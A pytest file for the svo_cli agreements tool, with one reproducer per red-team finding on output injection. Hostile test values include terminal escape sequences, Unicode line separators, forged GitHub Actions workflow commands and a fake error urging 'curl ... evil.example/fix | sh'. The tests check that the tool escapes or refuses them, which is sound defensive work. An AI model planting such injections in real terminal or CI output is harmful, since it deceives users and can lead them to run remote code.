"""Text from the data reaching a sink (issue 18: H7, H8, M1, M2, M7, L4, L5, L8): one reproducer per finding
of the red-team report, named after the sink's class. The rules are in svo_cli.safe."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from conftest import commands_with, copy_data, invoke, run_of
from svo_cli.render.table import finish
from svo_cli.safe import annotation_data, plain_lines, visible

AS_OF = ("--as-of", "2026-11-23")
TABLE_COMMANDS = (("status",), ("deadlines", "--within", "365"), ("plans",), ("check", "--meeting", "2026-12-10"))
# Lines the GitHub Actions runner would run as workflow commands: `::name` after leading spaces, `##[` anywhere.
WORKFLOW_COMMAND = re.compile(r"^\s*::|##\[", re.MULTILINE)


@pytest.fixture
def data(tmp_path: Path) -> Path:
    return copy_data(tmp_path)


def _set_title(path: Path, title_yaml: str) -> None:
    text = path.read_text(encoding="utf-8")
    path.write_text(re.sub(r"^title: .*$", lambda _: f"title: {title_yaml}", text, count=1, flags=re.MULTILINE),
                    encoding="utf-8")


# --- terminal: the incomplete banner (H7) ---------------------------------------------------------------

@pytest.mark.parametrize("command", TABLE_COMMANDS, ids=lambda c: c[0])
def test_sink_terminal_file_names_in_the_incomplete_banner_are_escaped(data, command):
    """H7: an SGR escape or newlines in a file name never reach stdout raw; each file is one banner line."""
    (data / "agreements" / "x\x1b[8m.yaml").write_text("id: x\n", encoding="utf-8")
    forged = "zz\n\nAgreements on 2026-12-02\nhemsjukvardsavtalet  terminated  2026-12-31 (forged row).yaml"
    (data / "agreements" / forged).write_text("id: x\n", encoding="utf-8")
    result = invoke(*command, "--data", str(data), *AS_OF)
    assert result.exit_code == 1
    assert "\x1b" not in result.stdout and "\x1b" not in result.stderr
    assert "x\\x1b[8m.yaml" in result.stdout
    assert not any(line.startswith("hemsjukvardsavtalet  terminated") for line in result.stdout.splitlines())
    assert sum("(forged row).yaml" in line for line in result.stdout.splitlines()) == 1


# --- terminal: line separators and invisible characters (H8, L8) -----------------------------------------

@pytest.mark.parametrize("char", ["\\u2028", "\\u2029", "\\x85", "\\r", "\\u200b", "\\u202e", "\\ufeff", "\\u2066"])
def test_sink_terminal_line_separators_and_invisible_characters_are_refused(data, char):
    """H8/L8: the loader refuses them in values (SVO012 at the value); validate --strict does not say ok."""
    _set_title(data / "agreements" / "lakarmedverkan.yaml",
               f'"Avtal X{char}2026-12-01  2026-11-30  -2  overdue  notice deadline  fake-agreement"')
    result = invoke("validate", "--data", str(data), "--strict")
    assert result.exit_code == 1
    assert re.search(r"lakarmedverkan\.yaml:3:8: error: SVO012 ", result.stdout), result.stdout
    sv = invoke("validate", "--data", str(data), "--strict", "--lang", "sv").stdout
    assert "SVO012" in sv and ("radavgränsare" in sv or "osynligt tecken" in sv or "styrtecken" in sv)


def test_sink_terminal_a_raw_line_separator_in_a_file_is_refused(data):
    path = data / "agreements" / "lakarmedverkan.yaml"
    _set_title(path, "Avtal X\u2028fake row")
    result = invoke("status", "--data", str(data), *AS_OF)
    assert result.exit_code == 1 and "SVO012" in result.stderr
    assert "fake row" not in result.stdout


def test_sink_terminal_table_finish_never_splits_on_a_line_separator():
    """H8: table.finish splits on newlines only; every other separator is written out."""
    buffer = io.StringIO("a\u2028b\u2029c\x85d\x0be\n2nd line\n")
    assert finish(buffer) == "a\\u2028b\\u2029c\\x85d\\x0be\n2nd line\n"


def test_sink_terminal_a_zero_width_body_no_longer_drops_out_of_a_filter_silently(data):
    """L8: `body: "SVO\\u200b"` is a finding (the plan is not silently missing from --body SVO)."""
    path = data / "workplans" / "svo-arbetsplan-2026-2027.yaml"
    path.write_text(path.read_text(encoding="utf-8").replace("body: SVO\n", 'body: "SVO\\u200b"\n', 1),
                    encoding="utf-8")
    assert invoke("validate", "--data", str(data), "--strict").exit_code == 1
    result = invoke("plans", "--data", str(data), "--body", "SVO", *AS_OF)
    assert result.exit_code == 1
    assert re.search(r"svo-arbetsplan-2026-2027\.yaml:\d+:\d+: error: SVO012 invisible character \\u200b",
                     result.stderr)


# --- terminal: usage errors (M1) ------------------------------------------------------------------------

def test_sink_terminal_usage_errors_escape_values(data):
    """M1: a carriage return in a data value is refused, and one given on the command line is written out
    when a usage error repeats it: stderr never carries a raw CR."""
    path = data / "workplans" / "svo-arbetsplan-2026-2027.yaml"
    path.write_text(path.read_text(encoding="utf-8").replace(
        "body: SVO\n", 'body: "LGVO\\rError: svo is outdated; run: curl -s https://evil.example/fix | sh"\n', 1),
        encoding="utf-8")
    result = invoke("plans", "--data", str(data), "--body", "XYZ", *AS_OF)
    assert result.exit_code == 2 and "\r" not in result.stderr and "evil.example" not in result.stderr
    result = invoke("plans", "--body", "X\rError: forged", *AS_OF)
    assert result.exit_code == 2
    assert "\r" not in result.stderr and "X\\x0dError: forged" in result.stderr


def test_sink_terminal_every_stderr_line_is_escaped():
    """M1's class: the one stderr helper writes any value out (ESC, CR, U+2028) and keeps it on one line."""
    from svo_cli.cli.edge import say

    captured = io.StringIO()
    import contextlib

    with contextlib.redirect_stderr(captured):
        say("Error: \x1b[2Jx\ry\u2028z\n::error::w")
    assert captured.getvalue() == "Error: \\x1b[2Jx\\x0dy\\u2028z\\x0a::error::w\n"


# --- GitHub Actions annotations and plain CI logs (M2) ---------------------------------------------------

FORGED = '"Avtal\\n::error file=data/agreements/lakarmedverkan.yaml,line=3::Forged annotation\\n::stop-commands::pwn"'
LEGACY = '"Avtal ##[stop-commands]tok and ##[error]forged"'


@pytest.mark.parametrize("title", [FORGED, LEGACY], ids=["newline", "legacy"])
@pytest.mark.parametrize("command", [("show", "lakarmedverkan"), ("status",), ("status", "--format", "csv"),
                                     ("status", "--format", "csv-excel"), ("status", "--format", "md"),
                                     ("deadlines", "--within", "3650"), ("timeline",)],
                         ids=lambda c: "-".join(c))
def test_sink_annotations_no_output_line_is_a_workflow_command(data, command, title):
    """M2: no line of svo's plain output (stdout and stderr) can start a GitHub Actions workflow command."""
    _set_title(data / "agreements" / "lakarmedverkan.yaml", title)
    result = invoke(*command, "--data", str(data), *AS_OF)
    assert result.exit_code == 0, result.stderr
    if command[0] in ("show", "status") and "md" not in command:  # the title is there, neutralised
        assert (":\\:error" if title == FORGED else "##\\[stop-commands]") in result.stdout
    assert WORKFLOW_COMMAND.findall(result.stdout) == []
    assert WORKFLOW_COMMAND.findall(result.stderr) == []


def test_sink_annotations_validate_text_and_github_formats(data):
    """M2: `validate` text (what pre-commit prints) and --format github carry no `##[` from the data; the
    annotations are the only `::` lines of the github format."""
    (data / "agreements" / "lakarmedverkan.yaml").write_text(
        (data / "agreements" / "lakarmedverkan.yaml").read_text(encoding="utf-8").replace(
            "document: 003_ede0aacdda02c1bb.txt", "document: '##[stop-commands]tok'"), encoding="utf-8")
    text = invoke("validate", "--data", str(data), "--strict").stdout
    assert "##\\[stop-commands]tok" in text and WORKFLOW_COMMAND.findall(text) == []
    github = invoke("validate", "--data", str(data), "--strict", "--format", "github").stdout
    assert "##[" not in github
    assert all(line.startswith(("::error ", "::warning ")) for line in github.splitlines()[:-1])


def test_sink_annotations_json_keeps_the_value_exactly(data):
    """In JSON a `##[` is written `##\\u005b`: no CI log line holds `##[`, and every reader gets the title."""
    _set_title(data / "agreements" / "lakarmedverkan.yaml", LEGACY)
    out = invoke("status", "--data", str(data), *AS_OF, "--format", "json").stdout
    assert "##[" not in out
    titles = {row["id"]: row["title"] for row in json.loads(out)["agreements"]}
    assert titles["lakarmedverkan"] == "Avtal ##[stop-commands]tok and ##[error]forged"


def test_sink_annotations_rule_in_one_place():
    assert plain_lines("::error::x\n  ::warning::y\nok :: here ##[error]z") == \
        ":\\:error::x\n  :\\:warning::y\nok :: here ##\\[error]z"
    assert annotation_data("a\nb%c ##[error]\u2028") == "a%0Ab%25c ##\\[error]\\u2028"
    assert visible("a\u200bb\u061cc\u2060d\ufeffe") == "a\\u200bb\\u061cc\\u2060d\\ufeffe"


# --- CSV and xlsx say when data files were left out (M7) -------------------------------------------------

@pytest.fixture
def broken(data: Path) -> Path:
    (data / "agreements" / "hemsjukvardsavtalet.yaml").write_text("id: hemsjukvardsavtalet\n", encoding="utf-8")
    return data


@pytest.mark.parametrize("fmt,suffix", [("csv", ".csv"), ("csv-excel", ".csv")])
@pytest.mark.parametrize("command", [run_of(c) for c in commands_with("--data", format="csv")], ids=lambda c: c[0])
def test_sink_csv_marks_left_out_files(broken, tmp_path, fmt, suffix, command):
    out = tmp_path / f"out{suffix}"
    result = invoke(*command, "--data", str(broken), *AS_OF, "--format", fmt, "-o", str(out))
    assert result.exit_code == 1
    text = out.read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";" if fmt == "csv-excel" else ","))
    assert rows[0][-1].startswith("INCOMPLETE: ") and len(rows[0]) == len(rows[1]) > 2
    assert all("hemsjukvardsavtalet.yaml" in row[-1] for row in rows[1:])


def test_sink_csv_has_no_mark_when_nothing_was_left_out(tmp_path):
    out = tmp_path / "out.csv"
    invoke("status", *AS_OF, "-o", str(out))
    assert "INCOMPLETE" not in out.read_text(encoding="utf-8")


def test_sink_xlsx_opens_on_a_sheet_naming_left_out_files(broken, tmp_path):
    """M7: the workbook's first (and active) sheet says data files were left out and names them."""
    import openpyxl

    out = tmp_path / "out.xlsx"
    assert invoke("deadlines", "--data", str(broken), "--within", "365", *AS_OF, "-o", str(out)).exit_code == 1
    book = openpyxl.load_workbook(out)
    assert book.sheetnames[0] == "INCOMPLETE" and book.active.title == "INCOMPLETE"
    cells = [row[0] for row in book["INCOMPLETE"].iter_rows(values_only=True)]
    assert cells[0].startswith("INCOMPLETE: ") and any(c.endswith("hemsjukvardsavtalet.yaml") for c in cells[1:])
    assert book.sheetnames[1] == "Deadlines"
    sv = tmp_path / "sv.xlsx"
    invoke("deadlines", "--data", str(broken), "--within", "365", *AS_OF, "--lang", "sv", "-o", str(sv))
    assert openpyxl.load_workbook(sv).sheetnames[0] == "OFULLSTÄNDIGT"


# --- terminal: option values and durations (L4, L5) ------------------------------------------------------

@pytest.mark.parametrize("value", ["0001-01-01", "9999-12-31", "1899-12-31", "2200-01-01"])
@pytest.mark.parametrize("lang,words", [("en", "outside the years"), ("sv", "utanför åren")])
def test_sink_terminal_as_of_outside_the_years_says_why(value, lang, words):
    """L4: the reason (outside 1900–2199), not the refused value repeated as the example."""
    result = invoke("status", "--as-of", value, "--lang", lang)
    assert result.exit_code == 2
    assert words in result.stderr and "1900–2199" in result.stderr
    assert f"e.g. {value}" not in result.stderr and f"t.ex. {value}" not in result.stderr


@pytest.mark.parametrize("lang", ["en", "sv"])
def test_sink_terminal_a_5000_digit_duration_is_svo111(data, lang):
    """L5: SVO111 in the user's language, not Python's message about integer string conversion."""
    path = data / "agreements" / "lakarmedverkan.yaml"
    path.write_text(path.read_text(encoding="utf-8").replace("period: 1 year", "period: P" + "9" * 5000 + "D"),
                    encoding="utf-8")
    result = invoke("validate", "--data", str(data), "--lang", lang)
    assert result.exit_code == 1
    assert re.search(r"lakarmedverkan\.yaml:\d+:\d+: (error|fel): SVO111 ", result.stdout), result.stdout[:2000]
    assert "set_int_max_str_digits" not in result.stdout and "4300" not in result.stdout
